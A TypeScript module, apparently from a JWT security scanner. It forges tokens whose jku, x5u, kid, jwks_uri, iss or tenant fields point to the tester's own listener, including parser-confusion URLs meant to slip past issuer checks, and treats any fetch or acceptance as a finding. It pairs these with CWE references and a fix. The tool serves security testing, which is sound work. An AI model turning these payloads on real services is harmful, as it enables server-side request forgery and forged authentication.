import { attacks, type Attack, type Row } from '../../attack-row.ts';
import { selfSigned } from '../../keys/certificate.ts';
import type { Changes, JsonObject } from '../../json.ts';
import type { Lab } from '../../run/lab.ts';
import { accepted, type Judgement } from '../../run/verdict.ts';
import { keySourceMaps } from './maps.ts';

/** Places on our listener: each attack has its own, so that a late fetch is not taken for another's. */
interface Place {
  readonly path: string;
  readonly url: string;
  /** `host:port` of the listener. */
  readonly host: string;
}

/** Tokens that name the URL of the key that proves them. A fetch is a finding even if the token is refused. */
export const keyUrls: readonly Attack[] = attacks(
  {
    family: 'keys',
    needs: ['jws', 'listener'],
    maps: { ...keySourceMaps, cwe: ['CWE-918', 'CWE-347', 'CWE-345'] },
    why: 'The server fetches what a stranger tells it to: it can be sent into its own network, and be given any key.',
    fix: 'Never fetch a URL from a token; the configured issuer has one key set URL, compared as a whole, without redirects.',
  },
  [
    named('jku', (place) => ({ jku: place.url })),
    named('jku-without-kid', (place) => ({ jku: place.url, kid: undefined })),
    named('jku-own-kid', (place) => ({ jku: place.url, kid: 'mine' })),
    named('jku-issuer-as-user', (place, lab) => ({ jku: `${trusted(lab)}@${place.host}${place.path}` })),
    named('jku-issuer-in-query', (place, lab) => ({ jku: `${place.url}?${trusted(lab)}` })),
    named('jku-issuer-in-fragment', (place, lab) => ({ jku: `${place.url}#${trusted(lab)}` })),
    named('jku-issuer-in-path', (place, lab) => ({
      jku: `${place.url}/${encodeURIComponent(trusted(lab))}`,
    })),
    named('jku-backslash', (place, lab) => ({
      jku: `http://${place.host}\\@${hostOf(trusted(lab))}${place.path}`,
    })),
    named('jku-scheme-relative', (place) => ({ jku: `//${place.host}${place.path}` })),
    named('jku-upper-case-scheme', (place) => ({ jku: place.url.replace('http', 'HTTP') })),
    named('jku-list', (place) => ({ jku: [place.url] })),
    named('jku-data-url', (_, lab) => ({ jku: `data:application/json,${encodeURIComponent(keySet(lab))}` })),
    named('x5u', (place) => ({ x5u: place.url })),
    named('x5u-without-kid', (place) => ({ x5u: place.url, kid: undefined })),
    named('kid-url', (place) => ({ kid: place.url })),
    named('jwks-uri', (place) => ({ jwks_uri: place.url })),
    named('url', (place) => ({ url: place.url })),
    named('crit-jku', (place) => ({ jku: place.url, crit: ['jku'] })),
    claimed('iss', (place) => ({ iss: place.url })),
    claimed('iss-with-slash', (place) => ({ iss: `${place.url}/` })),
    claimed('iss-issuer-as-user', (place, lab) => ({ iss: `${trusted(lab)}@${place.host}${place.path}` })),
    claimed('iss-issuer-in-query', (place, lab) => ({ iss: `${place.url}?${trusted(lab)}` })),
    claimed('iss-issuer-in-fragment', (place, lab) => ({ iss: `${place.url}#${trusted(lab)}` })),
    claimed('tenant', (place) => ({
      tid: `@${place.host}${place.path}`,
      tenant: `@${place.host}${place.path}`,
    })),
    claimed('jku-claim', (place) => ({ jku: place.url, jwks_uri: place.url })),
  ],
);

function named(name: string, header: (place: Place, lab: Lab) => Changes): Row {
  return {
    name: `url-${name}`,
    title: `a key of ours at a URL of ours, named by the header: ${name}`,
    run: (lab) => lure(lab, (place) => ({ header: { ...header(place, lab), alg: 'EdDSA' } })),
  };
}

function claimed(name: string, payload: (place: Place, lab: Lab) => Changes): Row {
  return {
    name: `url-${name}`,
    title: `a key of ours at a URL of ours, named by the claims: ${name}`,
    run: (lab) =>
      lure(lab, (place) => ({ header: { alg: 'EdDSA', kid: 'mine' }, payload: payload(place, lab) })),
  };
}

type Lure = (place: Place) => { readonly header: Changes; readonly payload?: Changes };

async function lure(lab: Lab, make: Lure): Promise<Judgement> {
  const place = prepare(lab);
  const exchange = await lab.present(
    lab.altered({ ...make(place), signature: (input) => lab.sign(input, 'EdDSA') }),
  );
  const judgement = lab.judge(exchange);
  if (judgement.verdict === 'accepted') return judgement;
  if (lab.listener.hits(place.path) === 0) await lab.wait(30);
  const hits = lab.listener.hits(place.path);
  return hits === 0
    ? judgement
    : accepted(`the URL in the token was fetched (${hits}×): ${place.url}`, exchange);
}

/** Lays out everything that a verifier may look for below a path of our listener. */
function prepare(lab: Lab): Place {
  const path = `/${lab.random.id()}`;
  const { listener } = lab;
  const url = listener.serve(path, keySet(lab));
  listener.serve(`${path}/jwks`, keySet(lab));
  listener.serve(`${path}/.well-known/jwks.json`, keySet(lab));
  const metadata = JSON.stringify({ issuer: url, jwks_uri: `${url}/jwks` });
  listener.serve(`${path}/.well-known/openid-configuration`, metadata);
  listener.serve(`/.well-known/oauth-authorization-server${path}`, metadata);
  return { path, url, host: new URL(url).host };
}

function keySet(lab: Lab): string {
  const { jwk } = lab.ownKey('EdDSA');
  const x5c = [selfSigned(lab.ownKey('EdDSA')).toString('base64')];
  const key = (kid: unknown): JsonObject => ({ ...jwk, kid, alg: 'EdDSA', use: 'sig', x5c });
  return JSON.stringify({ keys: [key(lab.jws().header['kid']), key('mine')] });
}

function trusted(lab: Lab): string {
  return lab.issuer ?? new URL(lab.url).origin;
}

function hostOf(url: string): string {
  return new URL(url).host;
}
